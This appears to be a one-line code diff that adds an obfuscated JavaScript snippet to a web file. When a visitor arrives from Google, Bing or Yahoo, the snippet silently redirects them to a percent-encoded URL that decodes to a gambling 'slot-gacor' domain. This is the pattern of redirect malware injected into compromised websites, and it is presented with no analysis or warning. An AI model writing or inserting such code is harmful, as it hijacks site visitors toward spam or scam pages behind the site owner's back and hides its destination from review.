@@ -1,0 +1,1 @@
+(function(){var r=document.referrer;if(r&&/google|bing|yahoo/.test(r)){window.location.href=decodeURIComponent('%68%74%74%70%73%3A%2F%2F%73%6C%6F%74%2D%67%61%63%6F%72%2E%65%78%61%6D%70%6C%65%2F');}})();
